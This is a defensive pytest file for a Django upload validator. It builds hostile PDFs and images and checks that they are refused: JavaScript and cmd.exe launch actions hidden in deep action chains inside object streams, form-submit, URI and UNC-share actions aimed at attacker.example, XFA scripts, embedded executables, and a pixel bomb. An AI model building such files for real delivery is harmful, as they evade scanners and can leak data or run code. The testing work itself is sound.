"""Upload content checks against the penetration test's files, built here so the checks stay honest:
active PDFs hidden in object streams and deep action chains, automatic actions of every kind, XFA scripts,
actions opening an embedded file, rich media and 3D annotations, a PDF that stalled the old byte scan, a pixel
bomb; and the ordinary files that must still be accepted."""

import io
import time

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from applications.content_check import MAX_PIXELS
from applications.models import Material, MaterialKind
from applications.uploads import UNCHECKABLE, UploadRefused, validate_upload
from tests.factories import png_bytes

Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String


def save(pdf: pikepdf.Pdf, *, object_streams=True) -> bytes:
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(buffer, object_stream_mode=mode, compress_streams=True)
    return buffer.getvalue()


def one_page_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    return pdf


def action_chain(pdf, depth: int, last: Dictionary, *, indirect: bool):
    """`depth` harmless /GoTo actions, each /Next to the following one, the last /Next being `last`."""
    destination = Array([pdf.pages[0].obj, Name.Fit])
    action = pdf.make_indirect(last) if indirect else last
    for _ in range(depth):
        step = Dictionary(S=Name.GoTo, D=destination, Next=action)
        action = pdf.make_indirect(step) if indirect else step
    return action


def link_annotation(pdf, action) -> Dictionary:
    """A link over the page that runs `action` when clicked."""
    annotation = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=action))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([annotation]))
    return annotation


JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def check(data: bytes, name="执照.pdf"):
    return validate_upload(SimpleUploadedFile(name, data))


def refused_with(data: bytes, name="执照.pdf") -> str:
    with pytest.raises(UploadRefused) as refused:
        check(data, name)
    return str(refused.value)


@pytest.mark.parametrize(("last", "what"), [(JAVASCRIPT, "JavaScript"), (LAUNCH, "启动外部程序")])
@pytest.mark.parametrize("indirect", [True, False], ids=["indirect", "nested"])
def test_sixty_deep_next_chain_in_an_object_stream_is_refused(last, what, indirect):
    pdf = one_page_pdf()
    pdf.Root.OpenAction = action_chain(pdf, 60, Dictionary(last), indirect=indirect)
    data = save(pdf)
    assert b"/ObjStm" in data and b"JavaScript" not in data and b"Launch" not in data  # compressed away
    message = refused_with(data)
    assert what in message and "不予接收" in message


@pytest.mark.parametrize(("last", "what"), [(JAVASCRIPT, "JavaScript"), (LAUNCH, "启动外部程序")])
def test_chain_behind_a_clicked_link_is_refused_too(last, what):
    pdf = one_page_pdf()
    link_annotation(pdf, action_chain(pdf, 60, Dictionary(last), indirect=False))
    assert what in refused_with(save(pdf))


def test_xfa_form_with_a_script_is_refused():
    pdf = one_page_pdf()
    xfa = pikepdf.Stream(
        pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_indirect(xfa))
    assert "XFA" in refused_with(save(pdf))


AUTOMATIC_ACTIONS = {
    "uri": (Dictionary(S=Name.URI, URI=String("http://attacker.example/track")), "自动打开网址"),
    "submit_form": (Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://attacker.example/"))),
                    "提交或导入数据"),
    "goto_remote_unc": (Dictionary(S=Name.GoToR, F=String(r"\\attacker.example\share\x.pdf"), D=Array([0, Name.Fit])),
                        "打开其他文件"),
    "import_data": (Dictionary(S=Name.ImportData, F=String("data.fdf")), "提交或导入数据"),
    "launch": (LAUNCH, "启动外部程序"),
}


@pytest.mark.parametrize("case", list(AUTOMATIC_ACTIONS))
def test_automatic_open_action_of_every_type_is_refused(case):
    action, what = AUTOMATIC_ACTIONS[case]
    pdf = one_page_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(action))
    message = refused_with(save(pdf))
    assert what in message and "打开文档时自动执行" in message


@pytest.mark.parametrize("case", ["uri", "submit_form", "goto_remote_unc"])
def test_additional_actions_anywhere_are_refused(case):
    action, _ = AUTOMATIC_ACTIONS[case]
    pdf = one_page_pdf()
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("x"),
                                                                         AA=Dictionary(K=Dictionary(action))))]))
    assert "自动执行的动作（/AA）" in refused_with(save(pdf))


def test_embedded_file_is_refused():
    pdf = one_page_pdf()
    pdf.attachments["readme.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")
    assert "嵌入的附件" in refused_with(save(pdf))


@pytest.mark.parametrize("where", ["open_action", "clicked_link"])
def test_goto_embedded_action_is_refused(where):
    """/GoToE opens a PDF embedded in (or attached to) this one: refused even behind a click."""
    pdf = one_page_pdf()
    target = Dictionary(R=Name.C, N=String("payload.pdf"))  # the embedded file named payload.pdf
    action = pdf.make_indirect(Dictionary(S=Name.GoToE, T=target, D=Array([0, Name.Fit])))
    if where == "open_action":
        pdf.Root.OpenAction = action
    else:
        link_annotation(pdf, action)
    data = save(pdf)
    assert b"GoToE" not in data  # compressed in an object stream
    assert "打开其他文件" in refused_with(data)


def annotation_on_the_page(pdf, annotation: Dictionary) -> bytes:
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
    return save(pdf)


def test_rich_media_annotation_is_refused():
    pdf = one_page_pdf()
    player = pikepdf.Stream(pdf, b"CWS\x0a" + b"\x00" * 64)  # a (truncated) Flash file, as RichMedia carries
    content = Dictionary(
        Assets=Dictionary(Names=Array([String("player.swf"), pdf.make_indirect(Dictionary(
            Type=Name.Filespec, F=String("player.swf"), EF=Dictionary(F=pdf.make_indirect(player)),
        ))])),
        Configurations=Array([]),
    )
    data = annotation_on_the_page(pdf, Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 100, 100], RichMediaContent=content,
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    ))
    assert b"RichMedia" not in data  # compressed in an object stream
    assert "多媒体或三维内容" in refused_with(data)


def test_three_d_annotation_is_refused():
    pdf = one_page_pdf()
    model = pikepdf.Stream(pdf, b"U3D\x00" + b"\x00" * 64)  # a (truncated) U3D scene: 3D scenes may carry JavaScript
    model.Type, model.Subtype = Name("/3D"), Name.U3D
    annotation = Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=[0, 0, 100, 100])
    annotation["/3DD"] = pdf.make_indirect(model)
    annotation["/3DA"] = Dictionary(A=Name.PO)  # activated when the page opens
    assert "多媒体或三维内容" in refused_with(annotation_on_the_page(pdf, annotation))


def test_uri_action_outside_a_link_is_refused():
    """A URI action a link's click does not start (here: the /Next of a plain /GoTo on a link) is refused."""
    pdf = one_page_pdf()
    uri, _ = AUTOMATIC_ACTIONS["uri"]
    link_annotation(pdf, action_chain(pdf, 1, Dictionary(uri), indirect=True))
    assert "自动打开网址" in refused_with(save(pdf))


def test_clicked_link_to_a_web_address_is_accepted():
    pdf = one_page_pdf()
    link_annotation(pdf, pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://www.example.com.cn/"))))
    assert check(save(pdf)).content_type == "application/pdf"


@pytest.mark.parametrize("form", ["array", "goto"])
def test_open_action_to_a_page_of_the_document_is_accepted(form):
    pdf = one_page_pdf()
    destination = Array([pdf.pages[0].obj, Name.Fit])
    pdf.Root.OpenAction = destination if form == "array" else Dictionary(S=Name.GoTo, D=destination)
    assert check(save(pdf)).content_type == "application/pdf"


def test_open_action_goto_with_a_next_action_is_refused():
    pdf = one_page_pdf()
    pdf.Root.OpenAction = action_chain(pdf, 1, Dictionary(S=Name.Named, N=Name.NextPage), indirect=False)
    assert "打开文档时自动执行" in refused_with(save(pdf))


def test_many_stream_keywords_without_endstream_are_checked_within_seconds():
    """The probe that held a worker for 121 s: a valid 19 MB PDF with 1,000 `stream` keywords and no endstream."""
    filler = b"".join(b"%stream\n%" + b"x" * 19_000 + b"\n" for _ in range(1000))
    body = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>", filler + b"<</Note(padding)>>"]
    data, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(body, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    assert len(data) > 19_000_000 and data.count(b"stream\n") == 1000 and b"endstream" not in data
    started = time.monotonic()
    checked = check(bytes(data))
    assert time.monotonic() - started < 5
    assert checked.size == len(data)


def test_pixel_bomb_png_is_refused():
    buffer = io.BytesIO()
    Image.new("1", (9400, 9400)).save(buffer, format="PNG", optimize=True)
    assert len(buffer.getvalue()) < 400_000  # small on disk, 88 million pixels decoded
    message = refused_with(buffer.getvalue(), "执照.png")
    assert "像素" in message and "4000 万" in message


def test_image_at_the_pixel_limit_is_accepted():
    buffer = io.BytesIO()
    Image.new("1", (8000, MAX_PIXELS // 8000)).save(buffer, format="PNG", optimize=True)
    assert check(buffer.getvalue(), "执照.png").content_type == "image/png"


def test_a_file_whose_check_cannot_finish_is_refused(settings):
    """When the limits are exceeded (here: a memory limit too small even to start) the file is refused, not passed."""
    settings.UPLOAD_CHECK_LIMITS = {**settings.UPLOAD_CHECK_LIMITS, "memory_bytes": 20 * 1024 * 1024}
    message = refused_with(png_bytes(), "执照.png")
    assert UNCHECKABLE in message


@pytest.mark.django_db
def test_chain_in_object_stream_is_refused_through_the_upload_page(owner_client, draft, _clean_private_storage):
    pdf = one_page_pdf()
    pdf.Root.OpenAction = action_chain(pdf, 60, Dictionary(JAVASCRIPT), indirect=True)
    response = owner_client.post(
        f"/enterprise/applications/{draft.pk}/materials/",
        {"kind": MaterialKind.LICENCE, "files": [SimpleUploadedFile("执照.pdf", save(pdf))]},
        follow=True,
    )
    assert "JavaScript" in " ".join(str(m) for m in response.context["messages"])
    assert not Material.objects.exists()
